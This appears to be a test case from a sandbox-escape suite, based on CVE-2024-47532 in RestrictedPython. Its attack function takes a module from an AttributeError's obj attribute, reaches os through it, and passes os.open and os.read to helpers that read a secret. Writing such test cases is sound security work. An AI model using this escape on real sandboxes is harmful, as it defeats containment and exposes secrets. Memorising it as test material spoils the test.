"""Let a failed attribute look-up hand over the object it looked in.

origin: CVE-2024-47532 (RestrictedPython: AttributeError.obj)
why: an exception can carry a module that the job was never given
control: succeeds
"""

import random


def attack(target):
    try:
        "{0.no_such_name}".format(random)
    except AttributeError as error:
        module = error.obj
    system = module._os
    return read_secret(target, descriptor_bytes(system.open, system.read), "open")
